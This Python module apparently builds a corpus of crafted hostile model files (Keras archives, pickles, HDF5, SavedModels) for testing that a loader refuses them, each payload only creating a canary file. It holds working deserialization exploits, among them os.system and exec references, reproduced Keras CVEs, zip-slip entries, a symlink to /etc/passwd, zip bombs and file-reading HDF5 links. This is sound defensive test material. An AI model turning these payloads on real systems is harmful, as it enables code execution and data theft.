"""Crafted files: each would create its canary, or read the secret, if whoever loads it trusted it.

A case writes its file into an empty folder and returns the path. `unsafe` loads it as a careless program would and
returns whether the payload got through, so that the corpus is known to be live; where it is None, the hole that the
file was made for is closed in the libraries' current releases, and the file is there lest it opens again.
"""

import copy
import io
import itertools
import json
import os
import pathlib
import pickle
import stat
import sys
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

import h5py
import numpy as np

SECRET = "the content of a file that no model may read"


@dataclass(frozen=True)
class Case:
    name: str
    write: Callable[[pathlib.Path], pathlib.Path]
    unsafe: Callable[[pathlib.Path], bool] | None = None


def canary(path: pathlib.Path) -> pathlib.Path:
    """The file that the payload of `path` creates."""
    return path.parent / "canary"


def exists_after(load: Callable[[pathlib.Path], object]) -> Callable[[pathlib.Path], bool]:
    """Whether the canary is there once `load` has run, whatever else goes wrong in it."""

    def touched(path: pathlib.Path) -> bool:
        try:
            load(path)
        except Exception as error:
            print(f"{path.name}: {error}"[:300])
        return canary(path).exists()

    return touched


# .keras archives with a hostile config.json


def archive(path: pathlib.Path, config: object, members: dict | None = None) -> pathlib.Path:
    """A `.keras` file: that of a small dense model, but with this configuration and these other members."""
    with zipfile.ZipFile(io.BytesIO(template())) as good, zipfile.ZipFile(path, "w") as bad:
        for name in good.namelist():
            bad.writestr(name, json.dumps(config) if name == "config.json" else good.read(name))
        for name, content in (members or {}).items():
            bad.writestr(name, content)
    return path


def template() -> bytes:
    """The bytes of a sound archive: one dense layer."""
    import keras

    inputs = keras.Input((4,), name="x")
    model = keras.Model(inputs, keras.layers.Dense(3, name="dense")(inputs), name="model")
    model.compile("sgd", "mse")
    return saved(model)


def saved(model) -> bytes:
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        model.save(f"{folder}/m.keras")
        return pathlib.Path(folder, "m.keras").read_bytes()


def sound() -> dict:
    return json.loads(zipfile.ZipFile(io.BytesIO(template())).read("config.json"))


def keras_unsafely(path: pathlib.Path) -> object:
    import keras

    return keras.saving.load_model(path, safe_mode=False)


def keras_safely(path: pathlib.Path) -> object:
    import keras

    return keras.saving.load_model(path)


def touching(path: pathlib.Path):
    """A lambda that creates the canary of `path`; its path is a constant of the bytecode, it needs no globals."""
    return eval(f"lambda x: (open({str(canary(path))!r}, 'w').close(), x)[1]")


def reference(module: str | None, name: str, config: object = None, registered: str | None = None) -> dict:
    return {
        "module": module,
        "class_name": name,
        "config": {} if config is None else config,
        "registered_name": registered,
    }


def in_dense(**arguments) -> Callable[[pathlib.Path], pathlib.Path]:
    """A file whose dense layer has these arguments in its configuration."""

    def write(folder):
        config = sound()
        config["config"]["layers"][1]["config"].update(arguments)
        return archive(folder / "m.keras", config)

    return write


def extra_layer(build: Callable[[pathlib.Path], dict], call: object = None) -> Callable[[pathlib.Path], pathlib.Path]:
    """A file whose functional model starts with one more layer, called on `call` or on the model's input."""

    def write(folder):
        path = folder / "m.keras"
        config = sound()
        dense = config["config"]["layers"][1]
        layer = {**build(path), "name": "payload", "inbound_nodes": copy.deepcopy(dense["inbound_nodes"])}
        if call is not None:
            layer["inbound_nodes"] = [{"args": [call(path)], "kwargs": {}}]
        config["config"]["layers"].insert(1, layer)
        return archive(path, config)

    return write


SYSTEM = reference("os", "function", "system", "system")
GET_FILE = reference("keras.utils", "function", "get_file", "get_file")
UNLOCK = reference("keras.config", "function", "enable_unsafe_deserialization", "enable_unsafe_deserialization")
TYPESPEC = {**reference("tensorflow", "__typespec__", []), "spec_name": "TensorSpec"}


def lambda_layer(path: pathlib.Path) -> dict:
    import keras

    return keras.saving.serialize_keras_object(keras.layers.Lambda(touching(path), output_shape=None, name="payload"))


def with_layers(*wrap: Callable) -> Callable[[pathlib.Path], pathlib.Path]:
    """A file that Keras itself saves, of a model with the payload wrapped by each of `wrap`, inside out."""

    def write(folder):
        import keras

        path = folder / "m.keras"
        layer = keras.layers.Lambda(touching(path), name="payload")
        for outer in wrap:
            layer = outer(layer)
        inputs = keras.Input((5, 4), name="x")
        path.write_bytes(saved(keras.Model(inputs, layer(inputs))))
        canary(path).unlink()  # building the model ran the payload
        return path

    return write


def nested(layer):
    import keras

    inputs = keras.Input((5, 4))
    return keras.Model(inputs, layer(inputs), name="nested")


def time_distributed(layer):
    import keras

    return keras.layers.TimeDistributed(layer)


def legacy_lambda(path):
    """A layer without `module`, as Keras 2 wrote them: Keras 3 still looks such names up."""
    return {"class_name": "Lambda", "config": lambda_layer(path)["config"]}


def bidirectional(path):
    return reference("keras.layers", "Bidirectional", {"name": "payload", "layer": lambda_layer(path)})


def raw_lambda(path):
    from keras.src.utils.python_utils import func_dump

    return {"class_name": "__lambda__", "config": {"value": func_dump(touching(path))}}


def unlock_then_lambda(path):
    """CVE-2025-9906: the configuration itself first switches the safe mode off, by naming Keras's own function."""
    layer = lambda_layer(path)
    return {**layer, "config": {**layer["config"], "arguments": {"first": UNLOCK}}}


def keras_function_lambda(path):
    """CVE-2025-8747: a Lambda without bytecode whose function is one of Keras's own that writes files."""
    arguments = {"origin": f"file://{__file__}", "cache_dir": str(path.parent), "fname": str(canary(path))}
    return reference("keras.layers", "Lambda", {"name": "payload", "function": GET_FILE, "arguments": arguments})


def compile_config(**entries) -> Callable[[pathlib.Path], pathlib.Path]:
    def write(folder):
        config = sound()
        config["compile_config"].update(entries)
        return archive(folder / "m.keras", config)

    return write


def foreign_package(package: str, registered: str | None) -> Callable[[pathlib.Path], pathlib.Path]:
    """A class from a module that lies on the path, whose import creates the canary."""

    def write(folder):
        path = folder / "m.keras"
        sys.modules.pop(package, None)
        folder.joinpath(f"{package}.py").write_text(f"open({str(canary(path))!r}, 'w').close()\nclass Evil: pass\n")
        config = sound()
        config["config"]["layers"][1].update(reference(package, "Evil", {}, registered))
        return archive(path, config)

    return write


def importing(load):
    def with_path(path):
        sys.path.insert(0, str(path.parent))
        try:
            load(path)
        finally:
            sys.path.remove(str(path.parent))

    return exists_after(with_path)


def import_named(path):
    """What Keras before 3.9 did with `module`."""
    config = json.loads(zipfile.ZipFile(path).read("config.json"))
    __import__(config["config"]["layers"][1]["module"])


def vocabulary(folder):
    folder.joinpath("secret").write_text(SECRET)
    config = {"name": "payload", "vocabulary": str(folder / "secret"), "invert": True}
    config |= {"max_tokens": None, "num_oov_indices": 1, "mask_token": None, "oov_token": "[UNK]", "output_mode": "int"}
    config = reference(
        "keras", "Sequential", {"name": "model", "layers": [reference("keras.layers", "StringLookup", config)]}
    )
    return archive(folder / "m.keras", config)


def reads_secret(path):
    return SECRET in keras_unsafely(path).layers[0].get_vocabulary()


# Archives and arrays


def members(**content) -> Callable[[pathlib.Path], pathlib.Path]:
    return lambda folder: archive(folder / "m.keras", sound(), {k.replace("UP", "../"): v for k, v in content.items()})


def symlink(folder):
    link = zipfile.ZipInfo("assets/link")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(archive(folder / "m.keras", sound()), "a") as file:
        file.writestr(link, "/etc/passwd")
    return folder / "m.keras"


def two_configs(folder):
    """A reader that takes the last member of a name sees a sound model, one that takes the first does not."""
    hostile = sound()
    hostile["config"]["layers"].append(lambda_layer(folder / "m.keras"))
    archive(folder / "m.keras", hostile)
    with warnings.catch_warnings(action="ignore"), zipfile.ZipFile(folder / "m.keras", "a") as file:
        file.writestr("config.json", json.dumps(sound()))
    return folder / "m.keras"


def lzma(folder):
    path = archive(folder / "m.keras", sound())
    with zipfile.ZipFile(path, "a", zipfile.ZIP_LZMA) as file:
        file.writestr("assets/a", "a")
    return path


def bomb(folder):
    path = archive(folder / "m.keras", sound())
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as file, file.open("assets/zeros", "w") as zeros:
        for _ in range(100):
            zeros.write(bytes(2**20))
    return path


def weights(change: Callable[[h5py.File, pathlib.Path], None]) -> Callable[[pathlib.Path], pathlib.Path]:
    """A sound archive whose HDF5 weights were changed; its kernel is at KERNEL, `secret.h5` lies beside."""

    def write(folder):
        with h5py.File(folder / "secret.h5", "w") as secret:
            secret["vars/0"] = secret["0"] = np.full((4, 3), 7.0, "float32")
        good = zipfile.ZipFile(io.BytesIO(template()))
        buffer = io.BytesIO(good.read("model.weights.h5"))
        with h5py.File(buffer, "r+") as file:
            change(file, folder)
        with zipfile.ZipFile(folder / "m.keras", "w") as bad:
            for name in good.namelist():
                bad.writestr(name, buffer.getvalue() if name == "model.weights.h5" else good.read(name))
        return folder / "m.keras"

    return write


KERNEL = "layers/dense/vars/0"


def external_link(file, folder):
    del file[KERNEL]
    file[KERNEL] = h5py.ExternalLink(str(folder / "secret.h5"), "/0")


def soft_link(file, folder):
    del file[KERNEL]
    file[KERNEL] = h5py.SoftLink("/layers/dense/vars/1")


def external_storage(file, folder):
    del file[KERNEL]
    np.full((4, 3), 7.0, "float32").tofile(folder / "secret.raw")
    file.create_dataset(KERNEL, (4, 3), "float32", external=[(str(folder / "secret.raw"), 0, 48)])


def virtual(file, folder):
    del file[KERNEL]
    layout = h5py.VirtualLayout((4, 3), "float32")
    layout[:] = h5py.VirtualSource(str(folder / "secret.h5"), "0", (4, 3))
    file.create_virtual_dataset(KERNEL, layout)


def shape_bomb(file, folder):
    file.create_dataset("layers/dense/vars/9", (2**30,), "float32", chunks=(2**20,), compression="gzip")


def python_objects(file, folder):
    file.create_dataset("layers/dense/vars/9", data=["text"], dtype=h5py.string_dtype())


def ring(file, folder):
    """Harmless, but a walk that follows it never ends."""
    file["layers/dense/ring"] = file["layers"]


def sees_sevens(path):
    """Whether plain h5py follows the weights out of the file, once they are unpacked."""
    with h5py.File(zipfile.ZipFile(path).extract("model.weights.h5", path.parent), "r") as file:
        return bool((file[KERNEL][()] == 7.0).all())


# Pickles, by their own names and under others


class Payload:
    """Unpickles by creating a file."""

    def __init__(self, path: pathlib.Path):
        self.path = path

    def __reduce__(self):
        return os.system, (f"touch '{canary(self.path)}'",)


def pickled(name: str) -> Callable[[pathlib.Path], pathlib.Path]:
    def write(folder):
        path = folder / name
        path.write_bytes(pickle.dumps(Payload(path)))
        return path

    return write


def torch_file(name: str) -> Callable[[pathlib.Path], pathlib.Path]:
    """The zip that `torch.save` writes, its pickle hostile."""

    def write(folder):
        path = folder / name
        with zipfile.ZipFile(path, "w") as file:
            file.writestr("archive/data.pkl", pickle.dumps(Payload(path)))
            file.writestr("archive/version", "3\n")
        return path

    return write


PICKLED = ("m.pkl", "m.pt", "m.bin", "m.keras", "m.safetensors")


def unpickle(path):
    return pickle.loads(path.read_bytes())


def unpickle_zip(path):
    return pickle.loads(zipfile.ZipFile(path).read("archive/data.pkl"))


def object_array(folder):
    path = folder / "m.npz"
    np.savez(path, kernel=np.array([Payload(path)], dtype=object))
    return path


def joblib_file(folder):
    import joblib

    path = folder / "m.joblib"
    joblib.dump(Payload(path), path)
    return path


def joblib_load(path):
    import joblib

    return joblib.load(path)


# HDF5 models, safetensors, SavedModels


def h5_lambda(folder):
    """CVE-2025-9905: older Keras runs the Lambdas of a whole-model HDF5 file even in safe mode."""
    import keras

    path = folder / "m.h5"
    inputs = keras.Input((4,))
    keras.Model(inputs, keras.layers.Lambda(touching(path))(inputs)).save(path)
    canary(path).unlink()
    return path


def h5_named_keras(folder):
    return h5_lambda(folder).rename(folder / "m.keras")


def safetensors(recipe: object) -> Callable[[pathlib.Path], pathlib.Path]:
    def write(folder):
        from safetensors.numpy import save_file

        save_file({"0": np.zeros(1, "float32")}, folder / "m.safetensors", {"hub": json.dumps(recipe)})
        return folder / "m.safetensors"

    return write


def saved_model(body: Callable[[pathlib.Path], Callable]) -> Callable[[pathlib.Path], pathlib.Path]:
    """A SavedModel whose signature runs `body(path)` on its input."""

    def write(folder):
        import tensorflow as tf

        path = folder / "1"
        module = tf.Module()
        module.scale = tf.Variable(2.0)
        run = body(path)
        module.serve = tf.function(lambda x: {"y": run(x * module.scale)}, [tf.TensorSpec((None, 4), name="x")])
        tf.saved_model.save(module, path, {"serving_default": module.serve})
        return path

    return write


def write_file(path):
    import tensorflow as tf

    def run(x):
        tf.io.write_file(str(canary(path)), "x")
        return x

    return run


def write_in_branch(path):
    import tensorflow as tf

    return lambda x: tf.cond(tf.reduce_sum(x) > -1.0, lambda: write_file(path)(x), lambda: x)


def print_file(path):
    import tensorflow as tf

    def run(x):
        tf.print("x", output_stream=f"file://{canary(path)}")
        return x

    return run


def read_file(path):
    import tensorflow as tf

    return lambda x: x + tf.cast(tf.strings.length(tf.io.read_file(__file__)), tf.float32)


def python_function(path):
    import tensorflow as tf

    return lambda x: tf.ensure_shape(tf.numpy_function(lambda v: v, [x], tf.float32), (None, 4))


def map_memory(path):
    import tensorflow as tf

    return lambda x: x + tf.raw_ops.ImmutableConst(dtype=tf.float32, shape=[4], memory_region_name=__file__)


def save_checkpoint(path):
    import tensorflow as tf

    def run(x):
        save = tf.raw_ops.SaveV2(prefix=str(canary(path)), tensor_names=["x"], shape_and_slices=[""], tensors=[x])
        with tf.control_dependencies([save]):
            return tf.identity(x)

    return run


def posing_as_saver(folder):
    """The signature writes a checkpoint where it likes, and the file says that the signature is its only saver."""
    from tensorflow.core.protobuf import saved_model_pb2

    path = saved_model(save_checkpoint)(folder)
    graph = saved_model_pb2.SavedModel.FromString((path / "saved_model.pb").read_bytes())
    meta = graph.meta_graphs[0]
    real = {meta.saver_def.save_tensor_name.partition(":")[0], meta.saver_def.restore_op_name}
    functions = {n.attr["f"].func.name for n in meta.graph_def.node if n.name in real}
    for field, gone in ((meta.graph_def.node, real), (meta.graph_def.library.function, functions)):
        kept = [f for f in field if (f.signature.name if gone is functions else f.name) not in gone]
        del field[:]
        field.extend(kept)
    name = next(n.name for n in meta.graph_def.node if "signature_wrapper" in n.attr["f"].func.name)
    meta.saver_def.save_tensor_name = f"{name}:0"
    (path / "saved_model.pb").write_bytes(graph.SerializeToString())
    return path


def serve(path):
    import tensorflow as tf

    tf.saved_model.load(path).signatures["serving_default"](tf.ones((1, 4)))


def serve_checkpoint(path):
    serve(path)
    if list(path.parent.glob("canary*")):
        canary(path).touch()


def deep(folder):
    with (
        zipfile.ZipFile(archive(folder / "good.keras", sound())) as good,
        zipfile.ZipFile(folder / "m.keras", "w") as bad,
    ):
        bad.writestr("config.json", '{"class_name":' * 100_000 + "1" + "}" * 100_000)
        bad.writestr("model.weights.h5", good.read("model.weights.h5"))
    return folder / "m.keras"


def spoofed(module: str | None, name: str, registered: str | None, config: object = None):
    """The dense layer of a sound file, but taken from elsewhere."""

    def write(folder):
        described = sound()
        described["config"]["layers"][1].update(reference(module, name, config, registered))
        return archive(folder / "m.keras", described)

    return write


RUN_KERAS, RUN_SERVE = exists_after(keras_unsafely), exists_after(serve)
CASES = [
    Case("lambda", with_layers(), RUN_KERAS),
    Case("lambda_in_time_distributed", with_layers(time_distributed), RUN_KERAS),
    Case("lambda_in_nested_model", with_layers(nested, nested), RUN_KERAS),
    Case("lambda_in_wrapper_in_nested_model", with_layers(time_distributed, nested), RUN_KERAS),
    Case("lambda_beside", extra_layer(lambda_layer), RUN_KERAS),
    Case("lambda_in_bidirectional", extra_layer(bidirectional)),
    Case("lambda_without_module", extra_layer(legacy_lambda), RUN_KERAS),
    Case("lambda_bytecode_as_initializer", lambda f: in_dense(kernel_initializer=raw_lambda(f / "m.keras"))(f)),
    Case("lambda_bytecode_as_loss", lambda f: compile_config(loss=raw_lambda(f / "m.keras"))(f)),
    Case("cve_2025_1550_layer", spoofed("os", "function", "system", "system")),
    Case("cve_2025_1550_call", extra_layer(lambda p: SYSTEM, lambda p: f"touch '{canary(p)}'")),
    Case("cve_2025_1550_activation", in_dense(activation=SYSTEM)),
    Case("cve_2025_1550_builtins", in_dense(activation=reference("builtins", "function", "exec", "exec"))),
    Case("cve_2025_8747_lambda", extra_layer(keras_function_lambda)),
    Case("cve_2025_8747_initializer", in_dense(kernel_initializer=GET_FILE)),
    Case("cve_2025_8747_class", spoofed("keras.utils", "get_file", None, {"origin": f"file://{__file__}"})),
    Case("cve_2025_8747_callback", spoofed("keras.callbacks", "CSVLogger", None, {"filename": "canary"})),
    Case("cve_2025_9905", h5_lambda, RUN_KERAS),
    Case("cve_2025_9905_renamed", h5_named_keras),
    Case("cve_2025_9906", extra_layer(unlock_then_lambda)),
    Case("cve_2025_9906_alone", in_dense(activation=UNLOCK)),
    Case("keras_class_of_no_network", spoofed("keras.layers", "InputSpec", None, {"ndim": 4})),
    Case("load_model_in_config", spoofed("keras.models", "function", None, "load_model")),
    Case("deserialize_as_activation", in_dense(activation=reference("keras.activations", "function", "deserialize"))),
    Case("torch_module", spoofed("keras.layers", "TorchModuleWrapper", None, {"module": "x"})),
    Case("saved_model_layer", spoofed("keras.layers", "TFSMLayer", None, {"filepath": "/tmp"})),
    Case("typespec", in_dense(dtype=TYPESPEC)),
    Case("vocabulary_file", vocabulary, reads_secret),
    Case("foreign_module", foreign_package("innocent_layers", "innocent>Evil"), importing(import_named)),
    Case("foreign_module_unregistered", foreign_package("innocent_layers", None), importing(import_named)),
    Case("posing_as_keras_hub", foreign_package("keras_hub", "keras_hub>Evil"), importing(keras_safely)),
    Case("optimizer_elsewhere", compile_config(optimizer=reference("subprocess", "Popen", {"args": ["true"]}))),
    Case("metric_elsewhere", compile_config(metrics=[[SYSTEM]])),
    Case("spoofed_module", spoofed("os", "system", "hub>Maxout")),
    Case("spoofed_hub_file", spoofed("hub.evil", "Evil", "hub>Evil")),
    Case("spoofed_path", spoofed("hub.layers.maxout.os", "system", "hub>system")),
    Case("spoofed_export", spoofed("hub.export.convert", "Evil", "hub>Evil")),
    Case("unregistered_hub_name", spoofed("hub.layers.maxout", "functools", "hub>functools")),
    Case("foreign_name_in_hub_file", spoofed("hub.layers.maxout", "Maxout", "evil>Maxout")),
    Case("builtin_registered_elsewhere", spoofed("keras.layers", "Dense", "evil>Dense")),
    Case("builtin_registered_as_another", spoofed("keras.layers", "Dense", "Evil")),
    Case("keras_plus_newline", spoofed("keras.layers\n", "Dense", None)),
    Case("name_is_no_text", spoofed("keras.layers", ["Dense"], None)),
    Case("zip_slip", members(UPcanary="x")),
    Case("zip_absolute", members(**{"/canary": "x"})),
    Case("zip_backslash", members(**{"..\\canary": "x"})),
    Case("zip_symlink", symlink),
    Case("zip_two_configs", two_configs),
    Case("zip_bomb", bomb),
    Case("zip_lzma", lzma),
    Case("json_depth", deep),
    Case("h5_external_link", weights(external_link), sees_sevens),
    Case("h5_external_storage", weights(external_storage), sees_sevens),
    Case("h5_virtual", weights(virtual), sees_sevens),
    Case("h5_soft_link", weights(soft_link)),
    Case("h5_shape_bomb", weights(shape_bomb)),
    Case("h5_objects", weights(python_objects)),
    *(Case(f"pickle_{name}", pickled(name), exists_after(unpickle)) for name in PICKLED),
    *(Case(f"torch_{name}", torch_file(name), exists_after(unpickle_zip)) for name in ("m.pt", "m.pth", "m.keras")),
    Case("joblib", joblib_file, exists_after(joblib_load)),
    Case("npz_objects", object_array, exists_after(lambda p: np.load(p, allow_pickle=True)["kernel"])),
    Case("safetensors_unknown_entry", safetensors({"name": "os_system", "kwargs": {}})),
    Case("safetensors_other_room", safetensors({"name": "maxout", "kwargs": {}})),
    Case("safetensors_unknown_argument", safetensors({"name": "resnet_tiny", "kwargs": {"command": "true"}})),
    Case("safetensors_no_recipe", safetensors(["os", "system"])),
    Case("saved_model_writes", saved_model(write_file), RUN_SERVE),
    Case("saved_model_writes_in_branch", saved_model(write_in_branch), RUN_SERVE),
    Case("saved_model_prints_to_file", saved_model(print_file), RUN_SERVE),
    Case("saved_model_reads", saved_model(read_file)),
    Case("saved_model_python", saved_model(python_function)),
    Case("saved_model_maps_memory", saved_model(map_memory)),
    Case("saved_model_checkpoints", saved_model(save_checkpoint), exists_after(serve_checkpoint)),
    Case("saved_model_posing_as_saver", posing_as_saver, exists_after(serve_checkpoint)),
]  # fmt: skip
assert not [a for a, b in itertools.combinations([c.name for c in CASES], 2) if a == b]
